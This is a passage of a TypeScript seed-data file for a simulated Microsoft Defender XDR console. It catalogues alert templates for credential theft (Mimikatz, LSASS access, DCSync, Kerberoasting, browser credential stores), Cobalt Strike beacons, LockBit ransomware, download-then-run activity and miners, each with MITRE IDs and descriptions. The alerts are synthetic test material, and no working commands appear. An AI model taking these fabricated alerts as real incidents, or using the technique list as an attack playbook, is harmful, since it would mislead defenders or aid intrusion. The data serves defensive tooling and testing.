/**
 * Catalogues the seed generator draws from: alert templates per service source (titles,
 * categories, MITRE techniques, texts as Defender shows them), incident themes that combine them
 * the way real incidents do, and the word lists for assets, comments and names. Plain data only.
 */
import type {
  AlertDetermination,
  AlertSeverity,
  DetectionSource,
  ServiceSource,
} from '@/domain/enums';

/** Kinds of evidence the seed produces (keys of EVIDENCE_TYPE). */
export type EvidenceKind =
  'device' | 'user' | 'mailbox' | 'ip' | 'url' | 'file' | 'process' | 'cloudApplication';

export type AlertTemplate = {
  key: string;
  source: ServiceSource;
  title: string;
  /** MITRE tactic (a CATEGORY_LABELS key); the first of `categories`. */
  categories: readonly string[];
  mitre: readonly string[];
  detection: DetectionSource;
  severity: AlertSeverity;
  /** Evidence in order of importance; the first is always present. */
  evidence: readonly EvidenceKind[];
  description: string;
  recommendedActions?: string;
  /** Alert-id prefix when not the source's usual one (custom detections, Threat Experts…). */
  prefix?: string;
  /** Keys into FILES / PROCESSES for file and process evidence. */
  files?: readonly FileKey[];
  processes?: readonly ProcessKey[];
  threat?: { display: string; family: string };
  actor?: string;
  /** Incident system tags this alert implies. */
  incidentTags?: readonly string[];
  /** Alert comes from a policy (DLP, MDO, App Governance): it carries an alertPolicyId. */
  policy?: boolean;
  /** Set when this is a device the attack ran on a cloud VM (Defender for Cloud). */
  cloudVm?: boolean;
};

export const PRODUCT_NAMES: Record<string, string> = {
  microsoft365Defender: 'Microsoft Defender XDR',
  microsoftDefenderForEndpoint: 'Microsoft Defender for Endpoint',
  microsoftDefenderForOffice365: 'Microsoft Defender for Office 365',
  microsoftDefenderForIdentity: 'Microsoft Defender for Identity',
  microsoftDefenderForCloudApps: 'Microsoft Defender for Cloud Apps',
  azureAdIdentityProtection: 'Microsoft Entra ID Protection',
  microsoftAppGovernance: 'App Governance',
  dataLossPrevention: 'Microsoft Data Loss Prevention',
  microsoftDefenderForCloud: 'Microsoft Defender for Cloud',
  microsoftSentinel: 'Microsoft Sentinel',
  microsoftInsiderRiskManagement: 'Insider Risk Management',
};

/** What Defender recommends, per source, when the template has nothing more specific. */
export const RECOMMENDED_ACTIONS: Record<string, string> = {
  microsoft365Defender:
    'Review the incident graph and the related alerts. Contain affected users and devices, then hunt for the same indicators across the organization.',
  microsoftDefenderForEndpoint:
    'Collect artifacts and determine scope:\n• Review the device timeline for suspicious activities before and after the alert.\n• Look for the same artifacts on other devices.\n• Submit relevant files for deep analysis.\n\nInitiate containment and mitigation:\n• Contact the user to verify intent.\n• Isolate the device if compromise is confirmed.\n• Update AV signatures and run a full scan.',
  microsoftDefenderForOffice365:
    'Review the messages in Threat Explorer, confirm the verdict, and check whether any recipient clicked the URL or opened the attachment. Block the sender and URLs in the Tenant Allow/Block List if malicious.',
  microsoftDefenderForIdentity:
    'Find the source computer and the account involved. Check whether the activity is expected (for example a sanctioned scanner). If not, reset the account password, disable it if needed, and isolate the source computer.',
  microsoftDefenderForCloudApps:
    'Review the user activity log in Defender for Cloud Apps. Contact the user to confirm the activity. If the account is compromised, suspend it, revoke its sessions and reset its password.',
  azureAdIdentityProtection:
    'Confirm the sign-in with the user. If it was not them, mark the user as compromised, reset the password and revoke sessions. Consider a risk-based Conditional Access policy requiring MFA.',
  microsoftAppGovernance:
    'Review the app, its publisher, its permissions and its recent Graph activity. Disable the app if the activity is not expected and revoke the consent granted to it.',
  dataLossPrevention:
    'Review the matched content and the sharing activity. Contact the user and their manager. Remove external access to the item if the sharing is not approved.',
  microsoftDefenderForCloud:
    'Review the affected Azure resource and the activity logs around the alert time. Restrict network access to the resource and rotate any credentials it exposes.',
  microsoftSentinel:
    'Review the query results of the analytics rule, investigate the entities in the incident graph, and run the related hunting queries.',
  microsoftInsiderRiskManagement:
    'Review the user activity in Insider Risk Management and escalate to an investigation case if the activity is confirmed. Involve HR and legal as your policy requires.',
};

const MDE = 'microsoftDefenderForEndpoint' as const;
const MDO = 'microsoftDefenderForOffice365' as const;
const MDI = 'microsoftDefenderForIdentity' as const;
const MDCA = 'microsoftDefenderForCloudApps' as const;
const ENTRA = 'azureAdIdentityProtection' as const;
const APPGOV = 'microsoftAppGovernance' as const;
const DLP = 'dataLossPrevention' as const;
const MDC = 'microsoftDefenderForCloud' as const;
const SENTINEL = 'microsoftSentinel' as const;
const IRM = 'microsoftInsiderRiskManagement' as const;
const XDR = 'microsoft365Defender' as const;

export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  // ------------------------------------------------------------ Defender for Endpoint
  {
    key: 'mde-powershell',
    source: MDE,
    title: 'Suspicious PowerShell command line',
    categories: ['Execution'],
    mitre: ['T1059.001'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'medium',
    evidence: ['device', 'process', 'user', 'file', 'ip'],
    processes: ['powershellEncoded'],
    files: ['updatePs1'],
    description:
      'A suspicious PowerShell command line was run. Attackers use PowerShell with encoded or obfuscated commands to download and run payloads without writing them to disk.',
  },
  {
    key: 'mde-hidden-file',
    source: MDE,
    title: 'Suspicious execution of hidden file',
    categories: ['DefenseEvasion'],
    mitre: ['T1564.001'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'low',
    evidence: ['device', 'file', 'process', 'user'],
    files: ['hiddenDll'],
    processes: ['rundll32'],
    description:
      'A hidden file has been launched. This activity could indicate a compromised host. Attackers often hide files associated with malicious tools to evade file system inspection and defenses.',
  },
  {
    key: 'mde-mimikatz',
    source: MDE,
    title: "'Mimikatz' credential theft tool",
    categories: ['CredentialAccess'],
    mitre: ['T1003', 'T1003.001'],
    detection: 'antivirus',
    severity: 'high',
    evidence: ['device', 'file', 'process', 'user'],
    files: ['mimikatz'],
    processes: ['mimikatz'],
    threat: { display: 'HackTool:Win32/Mimikatz', family: 'Mimikatz' },
    description:
      'The Mimikatz credential theft tool was detected on this device. Mimikatz reads passwords, hashes and Kerberos tickets from memory and is used for lateral movement.',
  },
  {
    key: 'mde-lsass',
    source: MDE,
    title: 'Suspicious access to LSASS service',
    categories: ['CredentialAccess'],
    mitre: ['T1003.001'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'high',
    evidence: ['device', 'process', 'user', 'file'],
    processes: ['procdumpLsass'],
    files: ['lsassDmp'],
    description:
      'A process accessed the memory of the Local Security Authority Subsystem Service (LSASS), possibly to dump credentials of users signed in to the device.',
  },
  {
    key: 'mde-sched-task',
    source: MDE,
    title: 'Suspicious scheduled task',
    categories: ['Persistence'],
    mitre: ['T1053.005'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'medium',
    evidence: ['device', 'process', 'file', 'user'],
    processes: ['schtasks'],
    files: ['updExe'],
    description:
      'A scheduled task was created that runs a binary from an unusual location. Attackers create scheduled tasks to keep a foothold on a device across reboots.',
  },
  {
    key: 'mde-account-lookups',
    source: MDE,
    title: 'Anomalous account lookups',
    categories: ['Discovery'],
    mitre: ['T1087.002', 'T1069.002'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'low',
    evidence: ['device', 'process', 'user'],
    processes: ['netGroup'],
    description:
      'A process ran a series of account and group lookups that is unusual for this device. Attackers enumerate privileged groups to find accounts worth stealing.',
  },
  {
    key: 'mde-remote-activity',
    source: MDE,
    title: 'Suspicious remote activity',
    categories: ['LateralMovement'],
    mitre: ['T1021', 'T1047'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'medium',
    evidence: ['device', 'device', 'process', 'user', 'ip'],
    processes: ['wmicRemote'],
    description:
      'A remote process was started on this device from another device in the network with WMI. This can be lateral movement by an attacker with stolen credentials.',
  },
  {
    key: 'mde-hollowing',
    source: MDE,
    title: 'Process hollowing detected',
    categories: ['DefenseEvasion'],
    mitre: ['T1055.012'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'high',
    evidence: ['device', 'process', 'file', 'user'],
    processes: ['svchostHollow'],
    files: ['payloadDll'],
    description:
      'A legitimate process was started suspended and its memory replaced with malicious code. Process hollowing hides malware inside a trusted process.',
  },
  {
    key: 'mde-custom-ioc',
    source: MDE,
    title: 'Connection to a custom network indicator',
    categories: ['CommandAndControl'],
    mitre: ['T1071.001'],
    detection: 'customTi',
    severity: 'medium',
    evidence: ['device', 'url', 'ip', 'process'],
    processes: ['powershellEncoded'],
    description:
      'A process on this device connected to an address your organization added as a custom indicator of compromise.',
  },
  {
    key: 'mde-browser-creds',
    source: MDE,
    title: 'Possible attempt to steal credentials from a browser',
    categories: ['CredentialAccess'],
    mitre: ['T1555.003'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'medium',
    evidence: ['device', 'process', 'file', 'user'],
    processes: ['browserStealer'],
    files: ['loginData'],
    description:
      'A process read the credential store of a web browser. Info-stealers harvest saved passwords and session cookies this way.',
  },
  {
    key: 'mde-cobalt',
    source: MDE,
    title: "An active 'CobaltStrike' command and control beacon was detected",
    categories: ['CommandAndControl'],
    mitre: ['T1071.001', 'T1573'],
    detection: 'antivirus',
    severity: 'high',
    evidence: ['device', 'file', 'process', 'ip', 'url'],
    files: ['beaconDll'],
    processes: ['rundll32'],
    threat: { display: 'Backdoor:Win64/CobaltStrike.NP!dha', family: 'CobaltStrike' },
    description:
      'A Cobalt Strike beacon is running on this device and communicating with its command and control server. Human-operated ransomware groups often use Cobalt Strike.',
  },
  {
    key: 'mde-wacatac',
    source: MDE,
    title: "'Wacatac' malware was prevented",
    categories: ['Malware'],
    mitre: [],
    detection: 'antivirus',
    severity: 'informational',
    evidence: ['device', 'file', 'user'],
    files: ['invoiceExe'],
    threat: { display: 'Trojan:Win32/Wacatac.B!ml', family: 'Wacatac' },
    description:
      'Microsoft Defender Antivirus detected and blocked a file identified as Wacatac malware before it could run.',
  },
  {
    key: 'mde-emotet',
    source: MDE,
    title: "An active 'Emotet' malware was detected",
    categories: ['Malware'],
    mitre: ['T1204.002'],
    detection: 'antivirus',
    severity: 'medium',
    evidence: ['device', 'file', 'process', 'user'],
    files: ['invoiceDocm'],
    processes: ['winwordMacro'],
    threat: { display: 'Trojan:Win32/Emotet.RPB!MTB', family: 'Emotet' },
    description:
      'An active Emotet infection was detected. Emotet arrives in malicious Office documents and downloads further malware such as ransomware loaders.',
  },
  {
    key: 'mde-pua',
    source: MDE,
    title: "'BrowserModifier' unwanted software was detected",
    categories: ['UnwantedSoftware'],
    mitre: [],
    detection: 'antivirus',
    severity: 'low',
    evidence: ['device', 'file', 'user'],
    files: ['browserHelper'],
    threat: { display: 'BrowserModifier:Win32/Prifou', family: 'Prifou' },
    description:
      'Potentially unwanted software that changes browser settings was detected on this device.',
  },
  {
    key: 'mde-office-child',
    source: MDE,
    title: 'Suspicious process launched by an Office application',
    categories: ['Execution'],
    mitre: ['T1204.002', 'T1059.003'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'medium',
    evidence: ['device', 'process', 'file', 'user'],
    processes: ['winwordMacro'],
    files: ['invoiceDocm'],
    description:
      'An Office application started a command interpreter. Malicious documents use macros to launch scripts that download malware.',
  },
  {
    key: 'mde-vss-delete',
    source: MDE,
    title: 'File backups were deleted',
    categories: ['Impact'],
    mitre: ['T1490'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'high',
    evidence: ['device', 'process', 'user'],
    processes: ['vssadmin'],
    incidentTags: ['Ransomware'],
    description:
      'Volume shadow copies were deleted on this device. Ransomware deletes backups so that encrypted files cannot be restored.',
  },
  {
    key: 'mde-ransom-fs',
    source: MDE,
    title: 'Ransomware behavior detected in the file system',
    categories: ['Ransomware'],
    mitre: ['T1486'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'high',
    evidence: ['device', 'file', 'process', 'user'],
    files: ['ransomNote'],
    processes: ['lockbitExe'],
    incidentTags: ['Ransomware'],
    description:
      'Many files on this device were modified in a way that matches ransomware encryption, and ransom notes were written.',
  },
  {
    key: 'mde-lockbit',
    source: MDE,
    title: "'Lockbit' ransomware was detected",
    categories: ['Ransomware'],
    mitre: ['T1486'],
    detection: 'antivirus',
    severity: 'high',
    evidence: ['device', 'file', 'process', 'user'],
    files: ['lockbitExe'],
    processes: ['lockbitExe'],
    threat: { display: 'Ransom:Win32/Lockbit.AA', family: 'Lockbit' },
    incidentTags: ['Ransomware'],
    description: 'LockBit ransomware was detected on this device.',
  },
  {
    key: 'mde-custom-rmm',
    source: MDE,
    prefix: 'ed',
    title: 'Rare remote monitoring tool executed (custom detection)',
    categories: ['CommandAndControl'],
    mitre: ['T1219'],
    detection: 'customDetection',
    severity: 'medium',
    evidence: ['device', 'file', 'process', 'user'],
    files: ['anydesk'],
    processes: ['anydesk'],
    description:
      'Custom detection rule "Rare RMM tool" matched: a remote monitoring and management tool not approved by IT was run on this device.',
  },
  {
    key: 'mde-miner',
    source: MDE,
    title: 'Digital currency mining related behavior detected',
    categories: ['Impact'],
    mitre: ['T1496'],
    detection: 'microsoftDefenderForEndpoint',
    severity: 'medium',
    evidence: ['device', 'process', 'file'],
    processes: ['xmrig'],
    files: ['xmrig'],
    description: 'A process on this device behaves like a cryptocurrency miner.',
  },

  // ------------------------------------------------------------ Defender for Office 365
  {
    key: 'mdo-zap-url',
    source: MDO,
    title: 'Email messages containing malicious URL removed after delivery',
    categories: ['InitialAccess'],
    mitre: ['T1566.002'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'informational',
    evidence: ['mailbox', 'url', 'mailbox', 'ip'],
    policy: true,
    description:
      'Emails containing a malicious URL were delivered and later removed by zero-hour auto purge (ZAP).',
  },
  {
    key: 'mdo-zap-malware',
    source: MDO,
    title: 'Email messages containing malware removed after delivery',
    categories: ['InitialAccess'],
    mitre: ['T1566.001'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'informational',
    evidence: ['mailbox', 'file', 'mailbox', 'ip'],
    files: ['invoiceDocm'],
    policy: true,
    description:
      'Emails containing malware were delivered and later removed by zero-hour auto purge (ZAP).',
  },
  {
    key: 'mdo-campaign',
    source: MDO,
    title: 'Email messages from a campaign removed after delivery',
    categories: ['InitialAccess'],
    mitre: ['T1566'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'informational',
    evidence: ['mailbox', 'mailbox', 'url', 'ip', 'mailbox'],
    policy: true,
    description:
      'Messages belonging to a phishing campaign were removed from mailboxes after delivery.',
  },
  {
    key: 'mdo-url-click',
    source: MDO,
    title: 'A potentially malicious URL click was detected',
    categories: ['InitialAccess'],
    mitre: ['T1566.002', 'T1204.001'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'high',
    evidence: ['user', 'url', 'mailbox', 'ip'],
    policy: true,
    incidentTags: ['Credential Phish'],
    description: 'A user clicked a link in an email that Safe Links later identified as malicious.',
  },
  {
    key: 'mdo-user-reported',
    source: MDO,
    title: 'Email reported by user as malware or phish',
    categories: ['InitialAccess'],
    mitre: ['T1566'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'informational',
    evidence: ['mailbox', 'url', 'ip'],
    policy: true,
    description: 'A user reported an email as phishing using the Report button in Outlook.',
  },
  {
    key: 'mdo-sending-patterns',
    source: MDO,
    title: 'Suspicious email sending patterns detected',
    categories: ['SuspiciousActivity'],
    mitre: ['T1534'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'medium',
    evidence: ['mailbox', 'user', 'ip'],
    policy: true,
    description:
      'The account sent an unusual amount of email to external recipients. Compromised accounts are used to send phishing and spam.',
  },
  {
    key: 'mdo-restricted',
    source: MDO,
    title: 'User restricted from sending email',
    categories: ['InitialAccess'],
    mitre: ['T1078'],
    detection: 'microsoftDefenderForOffice365',
    severity: 'high',
    evidence: ['mailbox', 'user'],
    policy: true,
    description:
      'The user was blocked from sending email because the outbound spam policy limits were exceeded. The account may be compromised.',
  },

  // ------------------------------------------------------------ Defender for Identity
  {
    key: 'mdi-dcsync',
    source: MDI,
    title: 'Suspected DCSync attack (replication of directory services)',
    categories: ['CredentialAccess'],
    mitre: ['T1003.006'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'high',
    evidence: ['user', 'device', 'device', 'ip'],
    incidentTags: ['Critical asset'],
    description:
      'A replication request was sent to a domain controller from a computer that is not a domain controller. Attackers use DCSync to obtain password hashes of any account, including krbtgt.',
  },
  {
    key: 'mdi-kerberoast',
    source: MDI,
    title: 'Suspected Kerberos SPN exposure',
    categories: ['CredentialAccess'],
    mitre: ['T1558.003'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'high',
    evidence: ['user', 'device', 'device'],
    description:
      'Service tickets for many service principal names were requested from one computer, which matches a Kerberoasting attack to crack service account passwords offline.',
  },
  {
    key: 'mdi-enum',
    source: MDI,
    title: 'Account enumeration reconnaissance',
    categories: ['Discovery'],
    mitre: ['T1087.002'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'medium',
    evidence: ['device', 'user', 'ip'],
    description:
      'A computer queried the domain for many account names, some of which do not exist. Attackers guess account names to find valid targets.',
  },
  {
    key: 'mdi-bruteforce',
    source: MDI,
    title: 'Suspected brute-force attack (Kerberos, NTLM)',
    categories: ['CredentialAccess'],
    mitre: ['T1110'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'medium',
    evidence: ['user', 'device', 'ip', 'user'],
    description:
      'Many authentication failures were seen from one computer against several accounts.',
  },
  {
    key: 'mdi-ptt',
    source: MDI,
    title: 'Suspected identity theft (pass-the-ticket)',
    categories: ['LateralMovement'],
    mitre: ['T1550.003'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'high',
    evidence: ['user', 'device', 'device', 'ip'],
    description:
      'A Kerberos ticket issued to one computer was used from another. The ticket was probably stolen and replayed.',
  },
  {
    key: 'mdi-opth',
    source: MDI,
    prefix: 'ri',
    title: 'Suspected overpass-the-hash attack (Kerberos)',
    categories: ['LateralMovement'],
    mitre: ['T1550.002'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'medium',
    evidence: ['user', 'device', 'ip'],
    description:
      'A Kerberos ticket was requested with a downgraded encryption type, which is typical of an overpass-the-hash attack.',
  },
  {
    key: 'mdi-sensitive-groups',
    source: MDI,
    title: 'Suspicious additions to sensitive groups',
    categories: ['Persistence'],
    mitre: ['T1098'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'medium',
    evidence: ['user', 'user', 'device'],
    description: 'An account was added to Domain Admins outside the usual change process.',
  },
  {
    key: 'mdi-remote-exec',
    source: MDI,
    title: 'Remote code execution attempt',
    categories: ['Execution'],
    mitre: ['T1569.002', 'T1021.002'],
    detection: 'microsoftDefenderForIdentity',
    severity: 'medium',
    evidence: ['device', 'device', 'user'],
    description: 'A remote service was created on a domain controller from another computer.',
  },

  // ------------------------------------------------------------ Entra ID Protection
  {
    key: 'entra-unfamiliar',
    source: ENTRA,
    title: 'Unfamiliar sign-in properties',
    categories: ['InitialAccess'],
    mitre: ['T1078.004'],
    detection: 'azureAdIdentityProtection',
    severity: 'medium',
    evidence: ['user', 'ip'],
    description:
      'The sign-in had properties not seen recently for this user: an unfamiliar IP address, location, device or browser.',
  },
  {
    key: 'entra-atypical',
    source: ENTRA,
    title: 'Atypical travel',
    categories: ['InitialAccess'],
    mitre: ['T1078.004'],
    detection: 'azureAdIdentityProtection',
    severity: 'medium',
    evidence: ['user', 'ip', 'ip'],
    description:
      'Two sign-ins came from locations too far apart for the user to have travelled between them in the time between.',
  },
  {
    key: 'entra-anon-ip',
    source: ENTRA,
    title: 'Anonymous IP address',
    categories: ['InitialAccess'],
    mitre: ['T1090.003'],
    detection: 'azureAdIdentityProtection',
    severity: 'low',
    evidence: ['user', 'ip'],
    description: 'The user signed in from an anonymous proxy such as a Tor exit node.',
  },
  {
    key: 'entra-password-spray',
    source: ENTRA,
    title: 'Password spray',
    categories: ['CredentialAccess'],
    mitre: ['T1110.003'],
    detection: 'azureAdIdentityProtection',
    severity: 'high',
    evidence: ['user', 'ip', 'user', 'user'],
    description: 'Many accounts were attacked with a few common passwords from the same sources.',
  },
  {
    key: 'entra-leaked',
    source: ENTRA,
    title: 'Leaked credentials',
    categories: ['CredentialAccess'],
    mitre: ['T1589.001'],
    detection: 'azureAdIdentityProtection',
    severity: 'high',
    evidence: ['user'],
    description: "The user's valid credentials were found in a public leak.",
  },
  {
    key: 'entra-anomalous-token',
    source: ENTRA,
    title: 'Anomalous Token',
    categories: ['CredentialAccess'],
    mitre: ['T1539'],
    detection: 'azureAdIdentityProtection',
    severity: 'high',
    evidence: ['user', 'ip'],
    incidentTags: ['Credential Phish'],
    description:
      'A token with unusual characteristics was used, such as an unusual lifetime or a token replayed from an unfamiliar location — typical of adversary-in-the-middle phishing.',
  },

  // ------------------------------------------------------------ Defender for Cloud Apps
  {
    key: 'mdca-impossible-travel',
    source: MDCA,
    title: 'Impossible travel activity',
    categories: ['InitialAccess'],
    mitre: ['T1078'],
    detection: 'cloudAppSecurity',
    severity: 'medium',
    evidence: ['user', 'ip', 'ip', 'cloudApplication'],
    description:
      'The same user was active from two countries within a time shorter than the travel time between them.',
  },
  {
    key: 'mdca-infrequent-country',
    source: MDCA,
    title: 'Activity from infrequent country',
    categories: ['InitialAccess'],
    mitre: ['T1078'],
    detection: 'cloudAppSecurity',
    severity: 'low',
    evidence: ['user', 'ip', 'cloudApplication'],
    description: 'The user was active from a country no one in the organization used recently.',
  },
  {
    key: 'mdca-forwarding',
    source: MDCA,
    title: 'Suspicious inbox forwarding',
    categories: ['Exfiltration'],
    mitre: ['T1114.003'],
    detection: 'cloudAppSecurity',
    severity: 'medium',
    evidence: ['user', 'mailbox', 'cloudApplication', 'ip'],
    incidentTags: ['BEC Fraud'],
    description: 'An inbox rule forwards all of the user’s email to an external address.',
  },
  {
    key: 'mdca-inbox-rule',
    source: MDCA,
    title: 'Suspicious inbox manipulation rule',
    categories: ['DefenseEvasion'],
    mitre: ['T1564.008'],
    detection: 'cloudAppSecurity',
    severity: 'medium',
    evidence: ['user', 'mailbox', 'cloudApplication', 'ip'],
    incidentTags: ['BEC Fraud'],
    description:
      'An inbox rule moves or deletes messages with words such as "invoice" or "payment" — typical of business email compromise.',
  },
  {
    key: 'mdca-mass-download',
    source: MDCA,
    title: 'Mass download by a single user',
    categories: ['Collection'],
    mitre: ['T1530'],
    detection: 'cloudAppSecurity',
    severity: 'medium',
    evidence: ['user', 'cloudApplication', 'file', 'ip'],
    files: ['customerList'],
    description: 'A user downloaded an unusual number of files from SharePoint in a short time.',
  },
  {
    key: 'mdca-ransomware',
    source: MDCA,
    title: 'Ransomware activity',
    categories: ['Impact'],
    mitre: ['T1486'],
    detection: 'cloudAppSecurity',
    severity: 'high',
    evidence: ['user', 'cloudApplication', 'file'],
    files: ['ransomNote'],
    incidentTags: ['Ransomware'],
    description:
      'Many files in OneDrive were uploaded with a new extension, which matches ransomware encryption.',
  },
  {
    key: 'mdca-tor',
    source: MDCA,
    prefix: 'rm',
    title: 'Activity from a Tor IP address',
    categories: ['InitialAccess'],
    mitre: ['T1090.003'],
    detection: 'cloudAppSecurity',
    severity: 'medium',
    evidence: ['user', 'ip', 'cloudApplication'],
    description: 'A user was active from an IP address identified as a Tor exit node.',
  },
  {
    key: 'mdca-vm-delete',
    source: MDCA,
    title: 'Multiple delete VM activities',
    categories: ['Impact'],
    mitre: ['T1485'],
    detection: 'cloudAppSecurity',
    severity: 'medium',
    evidence: ['user', 'cloudApplication', 'ip'],
    description: 'A user deleted an unusual number of virtual machines in a single session.',
  },

  // ------------------------------------------------------------ App Governance
  {
    key: 'appgov-graph-mail',
    source: APPGOV,
    title: 'App made unusual Graph calls to read email and create inbox rules',
    categories: ['Collection'],
    mitre: ['T1114.002'],
    detection: 'appGovernanceDetection',
    severity: 'medium',
    evidence: ['cloudApplication', 'user', 'ip'],
    description:
      'An OAuth app read mailbox content and created inbox rules through Microsoft Graph, which it had not done before.',
  },
  {
    key: 'appgov-consent',
    source: APPGOV,
    title: 'Suspicious OAuth app consented with high-privilege permissions',
    categories: ['CredentialAccess'],
    mitre: ['T1528'],
    detection: 'appGovernanceDetection',
    severity: 'high',
    evidence: ['cloudApplication', 'user', 'url'],
    incidentTags: ['Credential Phish'],
    description:
      'A user consented to a recently registered app requesting Mail.ReadWrite and offline access. Illicit consent grants give attackers persistent mailbox access.',
  },
  {
    key: 'appgov-overprivileged',
    source: APPGOV,
    title: 'Overprivileged app with unused high-privilege permissions',
    categories: ['SuspiciousActivity'],
    mitre: [],
    detection: 'appGovernancePolicy',
    severity: 'informational',
    evidence: ['cloudApplication', 'user'],
    policy: true,
    description:
      'An app holds high-privilege Graph permissions it has not used in the last 90 days.',
  },
  {
    key: 'appgov-exo-spike',
    source: APPGOV,
    title: 'Increase in app API calls to Exchange Online',
    categories: ['Collection'],
    mitre: ['T1114'],
    detection: 'appGovernancePolicy',
    severity: 'low',
    evidence: ['cloudApplication', 'user'],
    policy: true,
    description: 'The app made many more Exchange Online API calls than usual.',
  },

  // ------------------------------------------------------------ Data Loss Prevention
  {
    key: 'dlp-shared-externally',
    source: DLP,
    title: 'DLP policy match for document shared externally',
    categories: ['Exfiltration'],
    mitre: ['T1567'],
    detection: 'microsoftDataLossPrevention',
    severity: 'medium',
    evidence: ['user', 'file', 'cloudApplication'],
    files: ['customerList', 'payroll', 'roadmap'],
    policy: true,
    description:
      'A document containing sensitive information was shared with people outside the organization.',
  },
  {
    key: 'dlp-email-cc',
    source: DLP,
    title: 'DLP policy match for email containing credit card numbers',
    categories: ['Exfiltration'],
    mitre: ['T1048.003'],
    detection: 'microsoftDataLossPrevention',
    severity: 'low',
    evidence: ['user', 'mailbox', 'file'],
    files: ['cardExport'],
    policy: true,
    description: 'An email sent outside the organization contained credit card numbers.',
  },
  {
    key: 'dlp-usb',
    source: DLP,
    title: 'DLP policy match for file copied to USB drive',
    categories: ['Exfiltration'],
    mitre: ['T1052.001'],
    detection: 'microsoftDataLossPrevention',
    severity: 'medium',
    evidence: ['user', 'file', 'device'],
    files: ['payroll', 'roadmap', 'customerList'],
    policy: true,
    description: 'A file with sensitive information was copied to a removable USB drive.',
  },
  {
    key: 'dlp-personal-cloud',
    source: DLP,
    title: 'DLP policy match for file uploaded to personal cloud storage',
    categories: ['Exfiltration'],
    mitre: ['T1567.002'],
    detection: 'microsoftDataLossPrevention',
    severity: 'high',
    evidence: ['user', 'file', 'cloudApplication', 'device'],
    files: ['customerList', 'sourceZip'],
    policy: true,
    description:
      'A file with sensitive information was uploaded to a personal cloud storage service.',
  },

  // ------------------------------------------------------------ Defender for Cloud
  {
    key: 'mdc-ssh-bruteforce',
    source: MDC,
    title: 'Failed SSH brute force attack',
    categories: ['CredentialAccess'],
    mitre: ['T1110'],
    detection: 'microsoftDefenderForServers',
    severity: 'medium',
    evidence: ['device', 'ip', 'ip'],
    cloudVm: true,
    description:
      'Many failed SSH sign-in attempts against this virtual machine came from a few IP addresses.',
  },
  {
    key: 'mdc-download-run',
    source: MDC,
    title: 'Suspicious download then run activity',
    categories: ['Execution'],
    mitre: ['T1105', 'T1059.004'],
    detection: 'microsoftDefenderForServers',
    severity: 'medium',
    evidence: ['device', 'process', 'url', 'ip'],
    processes: ['curlBash'],
    cloudVm: true,
    description: 'A file was downloaded and run immediately on this Linux virtual machine.',
  },
  {
    key: 'mdc-miner',
    source: MDC,
    title: 'Digital currency mining related behavior detected',
    categories: ['Impact'],
    mitre: ['T1496'],
    detection: 'microsoftDefenderForServers',
    severity: 'high',
    evidence: ['device', 'process', 'file', 'ip'],
    processes: ['xmrigLinux'],
    files: ['xmrigLinux'],
    cloudVm: true,
    description: 'A process on this virtual machine behaves like a cryptocurrency miner.',
  },
  {
    key: 'mdc-storage-tor',
    source: MDC,
    title: 'Access from a Tor exit node to a storage account',
    categories: ['InitialAccess'],
    mitre: ['T1090.003'],
    detection: 'microsoftDefenderForStorage',
    severity: 'high',
    evidence: ['ip', 'url'],
    description: 'A storage account was accessed successfully from a known Tor exit node.',
  },
  {
    key: 'mdc-keyvault',
    source: MDC,
    title: 'Unusual access to Key Vault from a suspicious IP',
    categories: ['CredentialAccess'],
    mitre: ['T1555'],
    detection: 'microsoftDefenderForKeyVault',
    severity: 'medium',
    evidence: ['user', 'ip'],
    description:
      'Secrets in a key vault were read from an IP address not seen before for this vault.',
  },
  {
    key: 'mdc-arm-exec',
    source: MDC,
    title:
      "Suspicious invocation of a high-risk 'Execution' operation by a service principal detected",
    categories: ['Execution'],
    mitre: ['T1651'],
    detection: 'microsoftDefenderForResourceManager',
    severity: 'medium',
    evidence: ['user', 'ip', 'device'],
    cloudVm: true,
    description:
      'A service principal ran a command on virtual machines through Azure Resource Manager.',
  },

  // ------------------------------------------------------------ Sentinel
  {
    key: 'sn-portal-bruteforce',
    source: SENTINEL,
    title: 'Brute force attack against Azure Portal',
    categories: ['CredentialAccess'],
    mitre: ['T1110'],
    detection: 'scheduledAlerts',
    severity: 'medium',
    evidence: ['user', 'ip'],
    description:
      'Analytics rule: many failed sign-ins to the Azure portal for one account, followed by a success.',
  },
  {
    key: 'sn-success-failure',
    source: SENTINEL,
    title: 'Successful logon from IP and failure from a different IP',
    categories: ['CredentialAccess', 'InitialAccess'],
    mitre: ['T1110', 'T1078'],
    detection: 'scheduledAlerts',
    severity: 'medium',
    evidence: ['user', 'ip', 'ip'],
    description:
      'Analytics rule: a user signed in successfully from one IP address after failures from another.',
  },
  {
    key: 'sn-ti-signin',
    source: SENTINEL,
    title: 'TI map IP entity to SigninLogs',
    categories: ['CommandAndControl'],
    mitre: ['T1071'],
    detection: 'scheduledAlerts',
    severity: 'medium',
    evidence: ['ip', 'user'],
    description: 'Analytics rule: a sign-in came from an IP address found in threat intelligence.',
  },
  {
    key: 'sn-port-scan',
    source: SENTINEL,
    title: 'Palo Alto - possible internal to external port scanning',
    categories: ['Discovery'],
    mitre: ['T1046'],
    detection: 'scheduledAlerts',
    severity: 'low',
    evidence: ['ip', 'device', 'ip'],
    description: 'Analytics rule: an internal host connected to many ports on external addresses.',
  },
  {
